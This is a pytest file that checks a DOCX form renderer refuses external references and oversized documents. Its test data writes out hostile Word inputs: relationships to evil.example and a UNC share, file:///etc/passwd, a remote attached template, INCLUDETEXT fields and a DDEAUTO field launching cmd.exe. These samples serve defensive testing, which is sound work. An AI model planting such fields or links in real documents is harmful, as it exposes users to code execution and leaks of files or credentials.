"""A form brings nothing into an order that Word would fetch from elsewhere."""

import warnings
from collections.abc import Callable
from pathlib import Path

import pytest

from innoreg.errors import Refused
from innoreg.render.docx.docx_parts import read_parts
from innoreg.render.final_pass import zip_parts
from innoreg.render.template_check import check_template
from render.test_hostile import own_form, printed

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    ).encode()


def with_relation(kind: str, target: str) -> Callable[[dict[str, bytes]], dict[str, bytes]]:
    def spoil(parts: dict[str, bytes]) -> dict[str, bytes]:
        name = "word/_rels/document.xml.rels"
        end = b"</Relationships>"
        return {**parts, name: parts[name].replace(end, relation(kind, target) + end)}

    return spoil


def with_template(parts: dict[str, bytes]) -> dict[str, bytes]:
    """As Word saves a form that was made from a template of its own."""
    link = relation("attachedTemplate", "file:///C:/Users/clerk/evil.dotm")
    head = f'<Relationships xmlns="{PACKAGE}">'.encode()
    start = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    attached = start[:-1] + f' xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rIdX"/>'.encode()
    return {
        **parts,
        "word/settings.xml": parts["word/settings.xml"].replace(start, attached, 1),
        "word/_rels/settings.xml.rels": head + link + b"</Relationships>",
    }


def with_field(words: str) -> Callable[[dict[str, bytes]], dict[str, bytes]]:
    def spoil(parts: dict[str, bytes]) -> dict[str, bytes]:
        field = f"<w:r><w:instrText>{words}</w:instrText></w:r></w:p>".encode()
        name = "word/document.xml"
        return {**parts, name: parts[name].replace(b"</w:p>", field, 1)}

    return spoil


def spoilt(folder: Path, spoil: Callable[[dict[str, bytes]], dict[str, bytes]]) -> str:
    name = own_form(folder, "текст")
    (folder / name).write_bytes(zip_parts(spoil(read_parts(folder / name))))
    return name


OUTSIDE = {
    "a picture elsewhere": with_relation("image", "http://evil.example/pixel.png"),
    "a picture on the disk": with_relation("image", "file:///etc/passwd"),
    "a file server": with_relation("image", "\\\\evil.example\\share\\x.png"),
    "a document in it": with_relation("subDocument", "file:///C:/secret.docx"),
    "an object": with_relation("oleObject", "http://evil.example/x"),
    "a link to the disk": with_relation("hyperlink", "file:///C:/run.exe"),
    "INCLUDEPICTURE": with_field('INCLUDEPICTURE "http://evil.example/x.png"'),
    "INCLUDETEXT": with_field('INCLUDETEXT "C:/secret.docx"'),
    "DDEAUTO": with_field("DDEAUTO c:/windows/system32/cmd.exe"),
}


@pytest.mark.parametrize("outside", OUTSIDE)
def test_what_lies_elsewhere_is_refused_and_named(outside: str, tmp_path: Path) -> None:
    name = spoilt(tmp_path, OUTSIDE[outside])
    with pytest.raises(Refused, match=name):
        printed("текст", name, tmp_path)
    assert "template-outside" in [d.code for d in check_template(tmp_path / name)]


def test_the_template_that_word_attached_is_left_out(tmp_path: Path) -> None:
    name = spoilt(tmp_path, with_template)
    made = b"".join(read_parts(printed("текст", name, tmp_path).data).values())
    assert b"evil.dotm" not in made
    assert b"attachedTemplate" not in made


@pytest.mark.parametrize("address", ["https://example.org/", "mailto:school@example.org"])
def test_an_address_to_click_on_stays(address: str, tmp_path: Path) -> None:
    name = spoilt(tmp_path, with_relation("hyperlink", address))
    made = read_parts(printed("текст", name, tmp_path).data)
    assert address.encode() in made["word/_rels/document.xml.rels"]


def test_a_form_of_a_million_paragraphs_is_refused(tmp_path: Path) -> None:
    """Two hundred thousand, 13 kilobytes packed, took 750 MiB."""

    def spoil(parts: dict[str, bytes]) -> dict[str, bytes]:
        name, end = "word/document.xml", b"</w:body>"
        return {**parts, name: parts[name].replace(end, b"<w:p/>" * 1_000_000 + end)}

    name = spoilt(tmp_path, spoil)
    with pytest.raises(Refused, match="too large"):
        printed("текст", name, tmp_path)


def test_a_header_that_two_relations_lead_to_is_written_once(tmp_path: Path) -> None:
    """Docxtpl makes a part of each, of one name: Python warned of it on the user's screen."""

    def spoil(parts: dict[str, bytes]) -> dict[str, bytes]:
        header = parts["word/document.xml"].partition(b"<w:document")[2].partition(b">")[0]
        words = b"<w:hdr" + header + b"><w:p><w:r><w:t>{{ number }}</w:t></w:r></w:p></w:hdr>"
        name, end = "word/_rels/document.xml.rels", b"</Relationships>"
        to = f' Type="{OFFICE}/header" Target="header9.xml"/>'.encode()
        relations = b'<Relationship Id="rIdA"' + to + b'<Relationship Id="rIdB"' + to
        kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
        types = b'<Override PartName="/word/header9.xml" ContentType="' + kind + b'"/></Types>'
        return {
            **parts,
            name: parts[name].replace(end, relations + end),
            "word/header9.xml": words,
            "[Content_Types].xml": parts["[Content_Types].xml"].replace(b"</Types>", types),
        }

    name = spoilt(tmp_path, spoil)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        made = read_parts(printed("текст", name, tmp_path).data)
    assert b"{{" not in made["word/header9.xml"]


def test_two_parts_of_one_name_are_refused(tmp_path: Path) -> None:
    """What is related to as core properties only by another kind of relation is made once more."""

    def spoil(parts: dict[str, bytes]) -> dict[str, bytes]:
        relations = parts["_rels/.rels"]
        assert b"/metadata/core-properties" in relations
        return {**parts, "_rels/.rels": relations.replace(b"core-properties", b"else", 1)}

    with pytest.raises(Refused, match="docProps"):
        printed("текст", spoilt(tmp_path, spoil), tmp_path)
